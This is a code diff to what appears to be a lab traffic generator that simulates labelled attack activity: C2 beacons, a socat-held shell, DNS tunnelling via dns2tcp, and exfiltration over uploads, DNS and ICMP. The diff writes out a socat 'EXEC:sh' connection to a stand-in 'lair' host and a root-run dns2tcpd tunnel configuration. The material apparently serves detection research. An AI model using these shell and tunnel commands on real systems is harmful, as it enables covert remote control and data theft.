@@ -43,8 +43,9 @@ def curl_beacon(plan, bot, lair, scheme, every_s, jitter):
 def socat_shell(plan, bot, lair, every_s):
     """A shell that somebody at the far end seldom uses, held open by socat."""
     def body(stage):
-        line = f"while true; do echo beat; sleep {every_s:.2f}; done"
-        stage.run("socat", f"TCP:{stage.ip(lair)}:{BEACON_PORTS['tcp']}", f"EXEC:sh -c '{line}'")
+        with open(f"{stage.scratch}/beat", "w") as file:
+            file.write(f"while echo beat; do sleep {every_s:.2f}; done\n")
+        stage.run("socat", f"TCP:{stage.ip(lair)}:{BEACON_PORTS['tcp']}", f"EXEC:sh {stage.scratch}/beat")
     return hidden(plan, "c2", f"socat shell {every_s:.1f} s", "socat-shell", bot, lair, BEACON_PORTS["tcp"], body)
 
 
@@ -116,12 +117,18 @@ def iodine(plan, bot, burrow, kind, *flags):
 
 
 def dns2tcp(plan, bot, den):
-    """TCP over DNS by dns2tcp; the far end is `dns2tcpd` on `den`."""
+    """TCP over DNS by dns2tcp; the far end lives as long as the activity, for it spins when its client is gone."""
     def body(stage):
+        with open(f"{stage.scratch}/conf", "w") as file:
+            file.write(f"listen = 0.0.0.0\nport = 53\nuser = root\nchroot = {stage.scratch}\nkey = under\ndomain = d.lair.example\n"
+                       "resources = web:127.0.0.1:80, ssh:127.0.0.1:22\n")
+        server = stage.start("dns2tcpd", "-F", "-f", f"{stage.scratch}/conf", on=den)
+        stage.pause(0.5)
         client = stage.start("dns2tcpc", "-z", "d.lair.example", "-k", "under", "-r", stage.rng.choice(["web", "web", "ssh"]), "-l", TUNNEL_PORT_LOCAL, stage.ip(den))
         stage.pause(2)
         use_tunnel(stage, f"http://127.0.0.1:{TUNNEL_PORT_LOCAL}", None)
         stage.finish(client, 0.1)
+        stage.finish(server, 0.1)
     return hidden(plan, "tunnel", "dns2tcp", "dns2tcp", bot, den, 53, body, "udp")
 
 
@@ -148,6 +155,7 @@ def draw(rng, plan, bot, places, seconds):
         lambda: (seconds, beacon(plan, bot, lair, scheme, log_uniform(rng, 0.3, 2), jitter, False, size, rng.choice([0, 0.05]))),
         lambda: (30, upload(plan, bot, lair, int(log_uniform(rng, 100_000, 8_000_000)), rng.choice(["", "", "100K", "400K"]))),
         lambda: (40, upload(plan, bot, lair, int(log_uniform(rng, 300_000, 4_000_000)), rng.choice(["", "200K"]), rng.choice([5, 12, 30]), rng.choice([0.3, 1, 4]))),
+        lambda: (40, upload(plan, bot, lair, int(log_uniform(rng, 300_000, 3_000_000)), rng.choice(["", "", "300K"]), rng.choice([20, 60]), rng.choice([0.1, 0.3, 1]))),
         lambda: (25, copy_out(plan, bot, lair, int(log_uniform(rng, 200_000, 6_000_000)), rng.choice([0, 0, 2000]))),
         lambda: (min(seconds, 45), smuggle(plan, "exfiltration", bot, lair, "dns", rng.choice([30, 60, 110]), rng.choice([4, 10]), *pause)),
         lambda: (min(seconds, 45), smuggle(plan, "exfiltration", bot, lair, "icmp", rng.choice([64, 400, 1400]), 0, *pause)),
